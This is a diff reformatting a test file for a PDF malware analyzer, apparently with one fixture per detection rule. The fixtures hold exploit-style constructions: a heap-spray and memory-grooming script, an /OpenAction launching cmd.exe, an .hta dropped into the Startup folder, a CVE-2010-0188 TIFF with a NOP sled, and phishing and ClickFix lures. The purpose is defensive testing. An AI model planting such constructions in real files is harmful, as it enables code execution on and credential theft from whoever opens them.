@@ -38,32 +38,48 @@ function documentWith({ catalog = "", page = "", annots = [], setup }: DocumentP
   const annotNums = annots.map((a) => b.add(a));
   const content = b.addFlateStream("", "BT /F1 12 Tf 72 720 Td (Fixture) Tj ET");
   const annotEntry = annotNums.length ? `/Annots [${annotNums.map((n) => `${n} 0 R`).join(" ")}]` : "";
-  b.addCatalog(`${catalog} ${extra.catalog ?? ""}`, 1, `/Contents ${content} 0 R ${annotEntry} ${page} ${extra.page ?? ""}`);
+  b.addCatalog(
+    `${catalog} ${extra.catalog ?? ""}`,
+    1,
+    `/Contents ${content} 0 R ${annotEntry} ${page} ${extra.page ?? ""}`,
+  );
   return b;
 }
 
 /** A one-page "document shared with you" notice whose button links to `url` (the lure rules read it from the content stream). */
 function lureNotice(url: string): Uint8Array {
   const b = new PdfBuilder();
-  const content = b.addFlateStream("", "BT /F1 18 Tf 72 700 Td (Secure Document Shared With You) Tj 0 -30 Td /F1 12 Tf (Click VIEW DOCUMENT below to access your file.) Tj 0 -40 Td (VIEW DOCUMENT) Tj ET");
+  const content = b.addFlateStream(
+    "",
+    "BT /F1 18 Tf 72 700 Td (Secure Document Shared With You) Tj 0 -30 Td /F1 12 Tf (Click VIEW DOCUMENT below to access your file.) Tj 0 -40 Td (VIEW DOCUMENT) Tj ET",
+  );
   const button = b.add(link(`<< /S /URI /URI (${url}) >>`, "60 590 260 620"));
   b.addCatalog("", 1, `/Contents ${content} 0 R /Annots [${button} 0 R]`);
   return b.build();
 }
 
 /** /OpenAction running `js` (hex-encoded, so any script text survives PDF string syntax). */
-const openActionScript = (js: string) => documentWith({ catalog: `/OpenAction << /S /JavaScript /JS ${hexString(js)} >>` }).build();
+const openActionScript = (js: string) =>
+  documentWith({ catalog: `/OpenAction << /S /JavaScript /JS ${hexString(js)} >>` }).build();
 
 /** A small link annotation (a line of text, not an overlay) with action `action`. */
-const link = (action: string, rect = "72 700 200 714") => `<< /Type /Annot /Subtype /Link /Rect [${rect}] /Border [0 0 0] /A ${action} >>`;
+const link = (action: string, rect = "72 700 200 714") =>
+  `<< /Type /Annot /Subtype /Link /Rect [${rect}] /Border [0 0 0] /A ${action} >>`;
 
 /** A one-page document that is one picture (an image XObject over the page) with one link over part of it. */
 function pictureWithLink(url: string, pages = 1) {
   const b = new PdfBuilder();
-  const img = b.addStream("/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8", "\x80");
+  const img = b.addStream(
+    "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8",
+    "\x80",
+  );
   const content = b.addFlateStream("", "q 612 0 0 792 0 0 cm /Im0 Do Q");
   const annot = b.add(link(`<< /S /URI /URI (${url}) >>`, "100 300 500 500"));
-  b.addCatalog("", pages, `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R /Annots [${annot} 0 R]`);
+  b.addCatalog(
+    "",
+    pages,
+    `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R /Annots [${annot} 0 R]`,
+  );
   return b.build();
 }
 
@@ -124,7 +140,9 @@ function fontDocument(fontDict: string, fontFile?: Uint8Array) {
   return documentWith({
     setup(b) {
       const file = fontFile ? b.addStream(`/Length1 ${fontFile.length}`, fontFile) : 0;
-      const descriptor = b.add(`<< /Type /FontDescriptor /FontName /Fixture /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 ${file ? `/FontFile2 ${file} 0 R` : ""} >>`);
+      const descriptor = b.add(
+        `<< /Type /FontDescriptor /FontName /Fixture /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 ${file ? `/FontFile2 ${file} 0 R` : ""} >>`,
+      );
       const font = b.add(`<< /Type /Font /BaseFont /Fixture /FontDescriptor ${descriptor} 0 R ${fontDict} >>`);
       return { page: `/Resources << /Font << /F1 ${font} 0 R >> >>` };
     },
@@ -142,7 +160,9 @@ interface Fixture {
 }
 
 /** a TIFF whose DotRange holds 204 values after a NOP sled: the CVE-2010-0188 construction */
-const EXPLOIT_TIFF_BASE64 = Buffer.from(tiff([...PLAIN_TIFF_TAGS, DOT_RANGE_OVERFLOW], { sled: 256 })).toString("base64");
+const EXPLOIT_TIFF_BASE64 = Buffer.from(tiff([...PLAIN_TIFF_TAGS, DOT_RANGE_OVERFLOW], { sled: 256 })).toString(
+  "base64",
+);
 
 const FIXTURES: Record<string, Fixture> = {
   "javascript-present": {
@@ -166,13 +186,25 @@ const FIXTURES: Record<string, Fixture> = {
   },
   "javascript-heap-spray": {
     name: "a string doubled in a loop after unescape",
-    build: () => openActionScript('var s = unescape("%u0c0c%u0c0c"); while (s.length < 0x100000) s += s; var a = []; for (var i = 0; i < 200; i++) a[i] = s.substr(0, s.length - 2);'),
+    build: () =>
+      openActionScript(
+        'var s = unescape("%u0c0c%u0c0c"); while (s.length < 0x100000) s += s; var a = []; for (var i = 0; i < 200; i++) a[i] = s.substr(0, s.length - 2);',
+      ),
   },
-  "lure-fake-protected-document": { name: "a 'document shared with you' notice with a button link", build: () => lureNotice("https://docs-view.example.net/s/42") },
-  "lure-hosted-link": { name: "a 'document shared with you' notice whose button links to cloud storage", build: () => lureNotice("https://www.dropbox.com/scl/fi/abc123/Invoice.pdf?dl=0") },
+  "lure-fake-protected-document": {
+    name: "a 'document shared with you' notice with a button link",
+    build: () => lureNotice("https://docs-view.example.net/s/42"),
+  },
+  "lure-hosted-link": {
+    name: "a 'document shared with you' notice whose button links to cloud storage",
+    build: () => lureNotice("https://www.dropbox.com/scl/fi/abc123/Invoice.pdf?dl=0"),
+  },
   "javascript-memory-primitives": {
     name: "ArrayBuffers groomed in a loop and memory written through a DataView",
-    build: () => openActionScript("var a = []; for (var i = 0; i < 0x800; i++) { a[i] = new ArrayBuffer(0x58); new DataView(a[i]).setUint32(0, 0x41414141, true); }"),
+    build: () =>
+      openActionScript(
+        "var a = []; for (var i = 0; i < 0x800; i++) { a[i] = new ArrayBuffer(0x58); new DataView(a[i]).setUint32(0, 0x41414141, true); }",
+      ),
   },
   "javascript-exploit-api": {
     name: "a Collab.collectEmailInfo call (CVE-2007-5659)",
@@ -182,57 +214,131 @@ const FIXTURES: Record<string, Fixture> = {
     name: "exportDataObject with nLaunch",
     build: () => openActionScript('this.exportDataObject({ cName: "invoice.pdf", nLaunch: 2 });'),
   },
-  "javascript-file-write": { name: "an /OpenAction script that saves the document to a path of its own", build: () => openActionScript('this.saveAs("/c/temp/copy.pdf");') },
+  "javascript-file-write": {
+    name: "an /OpenAction script that saves the document to a path of its own",
+    build: () => openActionScript('this.saveAs("/c/temp/copy.pdf");'),
+  },
   "javascript-drops-runnable-file": {
     name: "exportXFAData writing an .hta into the Startup folder (CVE-2023-27363)",
-    build: () => openActionScript('this.exportXFAData({ cPath: "/C/Users/Public/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/u.hta", bXDP: false });'),
+    build: () =>
+      openActionScript(
+        'this.exportXFAData({ cPath: "/C/Users/Public/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/u.hta", bXDP: false });',
+      ),
   },
-  "launch-action": { name: "a link that launches another document", build: () => documentWith({ annots: [link("<< /S /Launch /F (readme.pdf) >>")] }).build() },
-  "launch-opens-document-on-click": { name: "a form button that launches the form's instructions (a local PDF)", build: () => documentWith({ annots: [link("<< /S /Launch /Win << /F (toolkit.pdf) /O (open) >> >>")] }).build() },
+  "launch-action": {
+    name: "a link that launches another document",
+    build: () => documentWith({ annots: [link("<< /S /Launch /F (readme.pdf) >>")] }).build(),
+  },
+  "launch-opens-document-on-click": {
+    name: "a form button that launches the form's instructions (a local PDF)",
+    build: () => documentWith({ annots: [link("<< /S /Launch /Win << /F (toolkit.pdf) /O (open) >> >>")] }).build(),
+  },
   "script-is-form-automation": {
     name: "Adobe Designer's version check and field defaults on open",
     build: () =>
-      openActionScript('if (typeof(xfa_installed) == "undefined" || xfa_version < 2.8) { if (app.viewerType == "Reader") app.launchURL("http://www.adobe.com/go/getreader", true); } this.getField("date").value = util.printd("yyyy-mm-dd", new Date());'),
+      openActionScript(
+        'if (typeof(xfa_installed) == "undefined" || xfa_version < 2.8) { if (app.viewerType == "Reader") app.launchURL("http://www.adobe.com/go/getreader", true); } this.getField("date").value = util.printd("yyyy-mm-dd", new Date());',
+      ),
   },
   "launch-command": {
     name: "an /OpenAction launching cmd.exe",
-    build: () => documentWith({ catalog: "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c start calc.exe) >> >>" }).build(),
+    build: () =>
+      documentWith({ catalog: "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c start calc.exe) >> >>" }).build(),
   },
-  "automatic-action": { name: "an /OpenAction opening a URL", build: () => documentWith({ catalog: "/OpenAction << /S /URI /URI (https://example.com/welcome) >>" }).build() },
+  "automatic-action": {
+    name: "an /OpenAction opening a URL",
+    build: () => documentWith({ catalog: "/OpenAction << /S /URI /URI (https://example.com/welcome) >>" }).build(),
+  },
   "remote-file-target": {
     name: "a link to a UNC path",
-    build: () => documentWith({ annots: [link(`<< /S /GoToR /F ${hexString("\\\\files.example.net\\share\\report.pdf")} /D [0 /Fit] >>`)] }).build(),
+    build: () =>
+      documentWith({
+        annots: [link(`<< /S /GoToR /F ${hexString("\\\\files.example.net\\share\\report.pdf")} /D [0 /Fit] >>`)],
+      }).build(),
   },
   "submit-form": {
     name: "a form submitted to a web server",
-    build: () => documentWith({ annots: [link("<< /S /SubmitForm /F << /FS /URL /F (https://forms.example.com/submit) >> /Flags 4 >>")] }).build(),
+    build: () =>
+      documentWith({
+        annots: [link("<< /S /SubmitForm /F << /FS /URL /F (https://forms.example.com/submit) >> /Flags 4 >>")],
+      }).build(),
   },
-  "remote-goto": { name: "a link to a page of another PDF", build: () => documentWith({ annots: [link("<< /S /GoToR /F (appendix.pdf) /D [0 /Fit] >>")] }).build() },
+  "remote-goto": {
+    name: "a link to a page of another PDF",
+    build: () => documentWith({ annots: [link("<< /S /GoToR /F (appendix.pdf) /D [0 /Fit] >>")] }).build(),
+  },
   "javascript-network-api": {
     name: "a submit button's script",
-    build: () => documentWith({ annots: [`<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 500 172 530] /A << /S /JavaScript /JS ${hexString('this.submitForm({cURL: "https://forms.example.com/post"});')} >> >>`] }).build(),
+    build: () =>
+      documentWith({
+        annots: [
+          `<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 500 172 530] /A << /S /JavaScript /JS ${hexString('this.submitForm({cURL: "https://forms.example.com/post"});')} >> >>`,
+        ],
+      }).build(),
   },
-  "javascript-callback-on-open": { name: "an /OpenAction script that opens a tracking URL", build: () => openActionScript('this.getURL("https://track.example.com/pixel", false);') },
+  "javascript-callback-on-open": {
+    name: "an /OpenAction script that opens a tracking URL",
+    build: () => openActionScript('this.getURL("https://track.example.com/pixel", false);'),
+  },
   "xfa-external-callback": {
     name: "an XFA submit button",
-    build: () => xfaDocument(`<template><subform><field name="b"><event activity="click"><submit target="https://forms.example.com/xfa"/></event></field></subform></template>`),
+    build: () =>
+      xfaDocument(
+        `<template><subform><field name="b"><event activity="click"><submit target="https://forms.example.com/xfa"/></event></field></subform></template>`,
+      ),
   },
   "xfa-callback-on-open": {
     name: "an XFA form that posts on initialize (FormCalc)",
-    build: () => xfaDocument(`<template><subform><event activity="initialize"><script>Post("https://collect.example.com/x", "opened")</script></event></subform></template>`),
+    build: () =>
+      xfaDocument(
+        `<template><subform><event activity="initialize"><script>Post("https://collect.example.com/x", "opened")</script></event></subform></template>`,
+      ),
   },
-  "suspicious-link": { name: "a link to an executable on an IP-literal host", build: () => documentWith({ annots: [link("<< /S /URI /URI (http://192.0.2.44/invoice.exe) >>")] }).build() },
-  "embedded-file": { name: "an attached text file", build: () => attachment("notes.txt", "Meeting notes: nothing to see here.\n") },
+  "suspicious-link": {
+    name: "a link to an executable on an IP-literal host",
+    build: () => documentWith({ annots: [link("<< /S /URI /URI (http://192.0.2.44/invoice.exe) >>")] }).build(),
+  },
+  "embedded-file": {
+    name: "an attached text file",
+    build: () => attachment("notes.txt", "Meeting notes: nothing to see here.\n"),
+  },
   "embedded-executable": {
     name: "an attached PE executable",
-    build: () => attachment("invoice.exe", concat([bytes("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), new Uint8Array(48), bytes("This program cannot be run in DOS mode.")])),
+    build: () =>
+      attachment(
+        "invoice.exe",
+        concat([
+          bytes("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"),
+          new Uint8Array(48),
+          bytes("This program cannot be run in DOS mode."),
+        ]),
+      ),
   },
-  "embedded-active-content": { name: "an attached HTML page with a script", build: () => attachment("view.html", "<html><body><script>location.href='https://example.com/'</script></body></html>") },
-  "embedded-flash": { name: "an attached SWF movie", build: () => attachment("movie.swf", concat([bytes("FWS\x0a"), Uint8Array.of(0x40, 0, 0, 0), new Uint8Array(32)])) },
-  "name-obfuscation": { name: "/JavaScript spelled /J#61vaScript", build: () => documentWith({ catalog: "/OpenAction << /S /J#61vaScript /JS (app.alert(1);) >>" }).build() },
+  "embedded-active-content": {
+    name: "an attached HTML page with a script",
+    build: () =>
+      attachment("view.html", "<html><body><script>location.href='https://example.com/'</script></body></html>"),
+  },
+  "embedded-flash": {
+    name: "an attached SWF movie",
+    build: () => attachment("movie.swf", concat([bytes("FWS\x0a"), Uint8Array.of(0x40, 0, 0, 0), new Uint8Array(32)])),
+  },
+  "name-obfuscation": {
+    name: "/JavaScript spelled /J#61vaScript",
+    build: () => documentWith({ catalog: "/OpenAction << /S /J#61vaScript /JS (app.alert(1);) >>" }).build(),
+  },
   "decompression-bomb": {
     name: "a stream of 40 MB of zeros deflated twice (a few hundred bytes in the file)",
-    build: () => documentWith({ setup: (b) => (b.addStream("/Filter [/FlateDecode /FlateDecode]", deflateSync(deflateSync(new Uint8Array(40 * 1024 * 1024)))), {}) }).build(),
+    build: () =>
+      documentWith({
+        setup: (b) => (
+          b.addStream(
+            "/Filter [/FlateDecode /FlateDecode]",
+            deflateSync(deflateSync(new Uint8Array(40 * 1024 * 1024))),
+          ),
+          {}
+        ),
+      }).build(),
   },
   "hidden-active-keyword": {
     name: "an /OpenAction script whose object header is glued to junk",
@@ -244,12 +350,22 @@ const FIXTURES: Record<string, Fixture> = {
         },
       }).build(),
   },
-  "malformed-structure": { name: "a startxref pointing nowhere", build: () => documentWith().build({ brokenStartxref: true }) },
-  "header-not-at-start": { name: "an image header before %PDF-", build: () => documentWith().build({ prefix: "GIF89a\x01\x00\x01\x00\x00\x00\x00;\n" }) },
-  "data-after-eof": { name: "an archive appended after %%EOF", build: () => documentWith().build({ suffix: `PK\x03\x04${"\x14\x00\x00\x00\x08\x00payload.exe".repeat(8)}` }) },
+  "malformed-structure": {
+    name: "a startxref pointing nowhere",
+    build: () => documentWith().build({ brokenStartxref: true }),
+  },
+  "header-not-at-start": {
+    name: "an image header before %PDF-",
+    build: () => documentWith().build({ prefix: "GIF89a\x01\x00\x01\x00\x00\x00\x00;\n" }),
+  },
+  "data-after-eof": {
+    name: "an archive appended after %%EOF",
+    build: () => documentWith().build({ suffix: `PK\x03\x04${"\x14\x00\x00\x00\x08\x00payload.exe".repeat(8)}` }),
+  },
   "objects-outside-xref": {
     name: "an object appended without an xref entry",
-    build: () => concat([documentWith().build(), bytes("99 0 obj\n<< /S /JavaScript /JS (app.alert(1);) >>\nendobj\n")]),
+    build: () =>
+      concat([documentWith().build(), bytes("99 0 obj\n<< /S /JavaScript /JS (app.alert(1);) >>\nendobj\n")]),
   },
   "many-revisions": {
     name: "ten incremental updates",
@@ -275,22 +391,32 @@ const FIXTURES: Record<string, Fixture> = {
     name: "a trailer with /Encrypt",
     build: () => {
       const b = documentWith();
-      const enc = b.add(`<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`);
-      return b.build({ trailerExtra: `/Encrypt ${enc} 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]` });
+      const enc = b.add(
+        `<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`,
+      );
+      return b.build({
+        trailerExtra: `/Encrypt ${enc} 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]`,
+      });
     },
   },
   "encryption-hides-active-content": {
     name: "an encrypted document with an /OpenAction script",
     build: () => {
       const b = documentWith({ catalog: "/OpenAction << /S /JavaScript /JS <9a3b17c4e0> >>" });
-      const enc = b.add(`<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`);
-      return b.build({ trailerExtra: `/Encrypt ${enc} 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]` });
+      const enc = b.add(
+        `<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`,
+      );
+      return b.build({
+        trailerExtra: `/Encrypt ${enc} 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]`,
+      });
     },
   },
   "xfa-form": {
     name: "an XFA form",
     build: () =>
-      xfaDocument('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1"><field name="Name"/></subform></template></xdp:xdp>'),
+      xfaDocument(
+        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1"><field name="Name"/></subform></template></xdp:xdp>',
+      ),
   },
   "xfa-tiff-exploit": {
     name: "a base64 TIFF in an XFA form whose DotRange overflows (CVE-2010-0188)",
@@ -300,47 +426,73 @@ const FIXTURES: Record<string, Fixture> = {
           `<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><ImageField1 xfdf:contentType="image/tif" href=""><image contentType="image/tif">${EXPLOIT_TIFF_BASE64}</image></ImageField1></form1></xfa:data></xfa:datasets></xdp:xdp>`,
       ),
   },
-  "fontmatrix-injection": { name: "a string in a /FontMatrix (CVE-2024-4367)", build: () => fontDocument("/Subtype /Type1 /FontMatrix [1 0 0 1 0 (x)]") },
+  "fontmatrix-injection": {
+    name: "a string in a /FontMatrix (CVE-2024-4367)",
+    build: () => fontDocument("/Subtype /Type1 /FontMatrix [1 0 0 1 0 (x)]"),
+  },
   "colors-overflow": {
     name: "a predictor with /Colors 2^24 + 1 (CVE-2009-3459)",
     build: () =>
       documentWith({
         setup(b) {
-          b.addFlateStream("/DecodeParms << /Predictor 12 /Colors 16777217 /BitsPerComponent 8 /Columns 1 >>", "\x00AAAA");
+          b.addFlateStream(
+            "/DecodeParms << /Predictor 12 /Colors 16777217 /BitsPerComponent 8 /Columns 1 >>",
+            "\x00AAAA",
+          );
         },
       }).build(),
   },
   "rich-media": {
     name: "a RichMedia annotation",
-    build: () => documentWith({ annots: ["<< /Type /Annot /Subtype /RichMedia /Rect [72 400 272 600] /RichMediaContent << /Assets << /Names [] >> >> >>"] }).build(),
+    build: () =>
+      documentWith({
+        annots: [
+          "<< /Type /Annot /Subtype /RichMedia /Rect [72 400 272 600] /RichMediaContent << /Assets << /Names [] >> >> >>",
+        ],
+      }).build(),
   },
   "jbig2-stream": {
     name: "a JBIG2-compressed image",
     build: () =>
       documentWith({
         setup(b) {
-          const img = b.addStream("/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode", new Uint8Array(16));
+          const img = b.addStream(
+            "/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode",
+            new Uint8Array(16),
+          );
           return { page: `/Resources << /XObject << /Im1 ${img} 0 R >> >>` };
         },
       }).build(),
   },
-  "cooltype-sing-overflow": { name: "a TrueType font whose SING uniqueName has no NUL (CVE-2010-2883)", build: () => fontDocument("/Subtype /TrueType", fontWithOverlongSingName()) },
+  "cooltype-sing-overflow": {
+    name: "a TrueType font whose SING uniqueName has no NUL (CVE-2010-2883)",
+    build: () => fontDocument("/Subtype /TrueType", fontWithOverlongSingName()),
+  },
   "xdp-wrapper": { name: "a PDF inside an XDP package", build: () => wrapInXdp(documentWith().build()) },
-  "payload-in-text-field": { name: "1500 encoded characters in an annotation's /Subj", build: () => documentWith({ annots: [`<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Subj (${LONG_ENCODED}) >>`] }).build() },
+  "payload-in-text-field": {
+    name: "1500 encoded characters in an annotation's /Subj",
+    build: () =>
+      documentWith({ annots: [`<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Subj (${LONG_ENCODED}) >>`] }).build(),
+  },
   "media-auto-activation": {
     name: "a 3D annotation that activates on page open",
     build: () =>
       documentWith({
         setup(b) {
           const u3d = b.addStream("/Type /3D /Subtype /U3D", new Uint8Array(32));
-          const annot = b.add(`<< /Type /Annot /Subtype /3D /Rect [72 400 272 600] /3DD ${u3d} 0 R /3DA << /A /PO /D /PC >> >>`);
+          const annot = b.add(
+            `<< /Type /Annot /Subtype /3D /Rect [72 400 272 600] /3DD ${u3d} 0 R /3DA << /A /PO /D /PC >> >>`,
+          );
           return { page: `/Annots [${annot} 0 R]` };
         },
       }).build(),
   },
   "phishing-url-pattern": {
     name: "a link to a host full of account-action words",
-    build: () => documentWith({ annots: [link("<< /S /URI /URI (https://secure-login.account-verify.example.com/session) >>")] }).build(),
+    build: () =>
+      documentWith({
+        annots: [link("<< /S /URI /URI (https://secure-login.account-verify.example.com/session) >>")],
+      }).build(),
   },
   "phishing-image-download-link": {
     name: "a picture page whose one link fetches a ZIP from a file-sharing host",
@@ -358,32 +510,61 @@ const FIXTURES: Record<string, Fixture> = {
     name: "the EICAR test file attached (assembled in code: the repository must not contain it)",
     build: () => attachment("eicar.com", TEST_SIGNATURES.find((s) => s.id === "eicar")!.text),
   },
-  "duplicate-action-key": { name: "a link whose /URI action gives /S twice, the later /S /JavaScript (PDF injection)", build: CORE_FIXTURES["pdf-injection"]["uri-becomes-javascript"] },
-  "web-viewer-script-injection": { name: "a comment whose author is an <img onerror> element (stored XSS in a web viewer)", build: CORE_FIXTURES["web-viewer-script-injection"]["annotation-markup"] },
-  "uri-runs-local-program": { name: "a link to file:///C:/Windows/System32/cmd.exe", build: CORE_FIXTURES["launch-file"]["uri-file-url"] },
-  "exploit-jpeg-huffman": { name: "a page's JPEG image whose AC table gives 84 one-bit codes", build: CORE_FIXTURES["image-codec-exploit"]["dct-huffman-table"] },
-  "text-field-overflow": { name: "a /Title padded with spaces to byte 540, then a handler address and shellcode", build: CORE_FIXTURES["string-overflow-exploit"]["info-title"] },
-  "office-document-polyglot": { name: "a Word web archive with macros in a stream without a filter (MalDoc in PDF)", build: CORE_FIXTURES["office-polyglot"]["unfiltered-stream"] },
-  "hidden-payload": { name: "a ZIP of a .js script appended after %%EOF", build: CORE_FIXTURES["executable-attachment"]["appended-after-eof"] },
+  "duplicate-action-key": {
+    name: "a link whose /URI action gives /S twice, the later /S /JavaScript (PDF injection)",
+    build: CORE_FIXTURES["pdf-injection"]["uri-becomes-javascript"],
+  },
+  "web-viewer-script-injection": {
+    name: "a comment whose author is an <img onerror> element (stored XSS in a web viewer)",
+    build: CORE_FIXTURES["web-viewer-script-injection"]["annotation-markup"],
+  },
+  "uri-runs-local-program": {
+    name: "a link to file:///C:/Windows/System32/cmd.exe",
+    build: CORE_FIXTURES["launch-file"]["uri-file-url"],
+  },
+  "exploit-jpeg-huffman": {
+    name: "a page's JPEG image whose AC table gives 84 one-bit codes",
+    build: CORE_FIXTURES["image-codec-exploit"]["dct-huffman-table"],
+  },
+  "text-field-overflow": {
+    name: "a /Title padded with spaces to byte 540, then a handler address and shellcode",
+    build: CORE_FIXTURES["string-overflow-exploit"]["info-title"],
+  },
+  "office-document-polyglot": {
+    name: "a Word web archive with macros in a stream without a filter (MalDoc in PDF)",
+    build: CORE_FIXTURES["office-polyglot"]["unfiltered-stream"],
+  },
+  "hidden-payload": {
+    name: "a ZIP of a .js script appended after %%EOF",
+    build: CORE_FIXTURES["executable-attachment"]["appended-after-eof"],
+  },
   "lure-callback-phone": {
     name: "a one-page invoice for a charge to dispute by calling a phone number",
     build: LURE_FIXTURES["callback-phone-lure"]["text-invoice"],
   },
-  "lure-paste-and-run": { name: "a fake CAPTCHA's verification steps: Win+R, Ctrl+V, Enter (ClickFix)", build: LURE_FIXTURES["paste-and-run-lure"]["text-run-dialog-paste"] },
+  "lure-paste-and-run": {
+    name: "a fake CAPTCHA's verification steps: Win+R, Ctrl+V, Enter (ClickFix)",
+    build: LURE_FIXTURES["paste-and-run-lure"]["text-run-dialog-paste"],
+  },
   "lure-login-form": {
     name: "a password field submitted to a web server",
     build: () =>
       documentWith({
         setup(b) {
           const password = b.add("<< /FT /Tx /T (password) /Ff 8192 /Rect [72 560 300 580] /Subtype /Widget >>");
-          const submit = b.add("<< /FT /Btn /Ff 65536 /T (login) /Rect [72 500 200 530] /Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/post.php) >> /Flags 4 >> >>");
+          const submit = b.add(
+            "<< /FT /Btn /Ff 65536 /T (login) /Rect [72 500 200 530] /Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/post.php) >> /Flags 4 >> >>",
+          );
           return { catalog: `/AcroForm << /Fields [${password} 0 R ${submit} 0 R] >>` };
         },
       }).build(),
   },
   "phishing-link-overlay": {
     name: "a link covering the whole page",
-    build: () => documentWith({ annots: [link("<< /S /URI /URI (https://docs.example.com/view?id=42) >>", "0 0 612 792")] }).build(),
+    build: () =>
+      documentWith({
+        annots: [link("<< /S /URI /URI (https://docs.example.com/view?id=42) >>", "0 0 612 792")],
+      }).build(),
   },
 };
 
@@ -420,17 +601,31 @@ const ADVANCED_RULE_TESTS: Record<string, string> = {
   "parser-differential": "lib/analyzer/rules/lure-rules.test.ts",
 };
 
-const ALL_FAST_FIXTURES: Record<string, Fixture> = { ...FIXTURES, ...EXPLOIT_RULE_FIXTURES, ...DOS_TAMPER_RULE_FIXTURES };
+const ALL_FAST_FIXTURES: Record<string, Fixture> = {
+  ...FIXTURES,
+  ...EXPLOIT_RULE_FIXTURES,
+  ...DOS_TAMPER_RULE_FIXTURES,
+};
 
 describe("RULES registry", () => {
   it("has a fast fixture for every fast rule and no fixture without a rule", () => {
-    expect(Object.keys(ALL_FAST_FIXTURES).sort()).toEqual(RULES.filter((r) => r.stage === "fast").map((r) => r.id).sort());
+    expect(Object.keys(ALL_FAST_FIXTURES).sort()).toEqual(
+      RULES.filter((r) => r.stage === "fast")
+        .map((r) => r.id)
+        .sort(),
+    );
   });
 
   it("names a covering test file for every advanced rule, and that file mentions the rule", () => {
-    expect(Object.keys(ADVANCED_RULE_TESTS).sort()).toEqual(RULES.filter((r) => r.stage === "advanced").map((r) => r.id).sort());
+    expect(Object.keys(ADVANCED_RULE_TESTS).sort()).toEqual(
+      RULES.filter((r) => r.stage === "advanced")
+        .map((r) => r.id)
+        .sort(),
+    );
     for (const [id, file] of Object.entries(ADVANCED_RULE_TESTS)) {
-      expect(readFileSync(new URL(`../../../${file}`, import.meta.url), "utf8"), `${file} must test ${id}`).toContain(id);
+      expect(readFileSync(new URL(`../../../${file}`, import.meta.url), "utf8"), `${file} must test ${id}`).toContain(
+        id,
+      );
     }
   });
 
@@ -466,16 +661,26 @@ describe("RULES registry", () => {
 // ---- behaviour: every rule fires on its fixture ------------------------------------------------
 
 describe("every fast rule fires on its fixture", () => {
-  it.each(Object.entries(ALL_FAST_FIXTURES).map(([id, f]) => [id, f.name, f] as const))("%s: %s", (id, _name, fixture) => {
-    const result = analyzeFast(fixture.build(), { fileName: `${id}.pdf` });
-    expect(() => FastResult.parse(result)).not.toThrow();
-    const finding = result.findings.find((f) => f.ruleId === id);
-    expect(finding, `findings: ${result.findings.map((f) => f.ruleId).join(", ")}`).toBeDefined();
-    const rule = RULES_BY_ID.get(id)!;
-    expect(finding).toMatchObject({ id, title: rule.title, severity: rule.severity, weight: rule.weight, attack: rule.attack, mitigationIds: rule.mitigations });
-    expect(finding!.evidence.length).toBeGreaterThan(0);
-    for (const c of rule.cve) expect(finding!.cve).toContain(c);
-  });
+  it.each(Object.entries(ALL_FAST_FIXTURES).map(([id, f]) => [id, f.name, f] as const))(
+    "%s: %s",
+    (id, _name, fixture) => {
+      const result = analyzeFast(fixture.build(), { fileName: `${id}.pdf` });
+      expect(() => FastResult.parse(result)).not.toThrow();
+      const finding = result.findings.find((f) => f.ruleId === id);
+      expect(finding, `findings: ${result.findings.map((f) => f.ruleId).join(", ")}`).toBeDefined();
+      const rule = RULES_BY_ID.get(id)!;
+      expect(finding).toMatchObject({
+        id,
+        title: rule.title,
+        severity: rule.severity,
+        weight: rule.weight,
+        attack: rule.attack,
+        mitigationIds: rule.mitigations,
+      });
+      expect(finding!.evidence.length).toBeGreaterThan(0);
+      for (const c of rule.cve) expect(finding!.cve).toContain(c);
+    },
+  );
 
   it("never puts a live link in the evidence of any fixture's findings", () => {
     for (const [id, fixture] of Object.entries(FIXTURES)) {
@@ -486,19 +691,28 @@ describe("every fast rule fires on its fixture", () => {
   });
 
   it("does not put a live link in a finding's description (Launch of a URL)", () => {
